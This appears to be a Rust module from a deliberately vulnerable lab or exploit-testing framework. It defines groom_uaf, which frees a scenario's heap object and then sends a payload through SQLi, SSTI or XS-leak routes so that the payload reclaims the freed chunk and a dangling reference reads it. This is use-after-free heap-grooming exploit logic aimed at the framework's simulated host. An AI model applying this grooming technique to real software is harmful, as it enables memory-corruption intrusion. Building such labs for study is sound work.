use serde::Serialize;

use super::ExploitError;
use crate::host::layout::XSLEAK_ATTACKER_SLOT;
use crate::host::{Scenario, Vector};
use crate::scenarios::{PageReport, Requester, ScenarioState};

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Groomed {
    pub freed: u32,
    pub landed: u32,
    /// The page rendered by the allocating request (template scenario).
    pub page: Option<PageReport>,
}

/// Frees the scenario's heap object, then sends `payload` through the
/// route that copies request bytes to the heap (token, name or the
/// attacker's own secret). Succeeds only if that copy reused the freed
/// chunk, so the dangling reference now reads the payload.
pub fn groom_uaf(state: &mut ScenarioState, payload: &[u8]) -> Result<Groomed, ExploitError> {
    if state.vector() != Vector::Uaf {
        return Err(ExploitError::Unsupported(format!("grooming needs the uaf build, not {}", state.vector())));
    }
    let freed = state.object_addr()?;
    state.release()?;
    let page = match state.scenario() {
        Scenario::Sqli => {
            state.sqli_set_token(payload)?;
            None
        }
        Scenario::Ssti => Some(state.ssti_page(payload, [0, 0])),
        Scenario::Xsleak => {
            state.xsleak_store_secret(Requester::Attacker, XSLEAK_ATTACKER_SLOT, payload)?;
            None
        }
    };
    let landed = state.last_user_alloc()?;
    if landed != freed {
        return Err(ExploitError::Groom { freed, landed });
    }
    Ok(Groomed {
        freed,
        landed,
        page: page.transpose()?,
    })
}
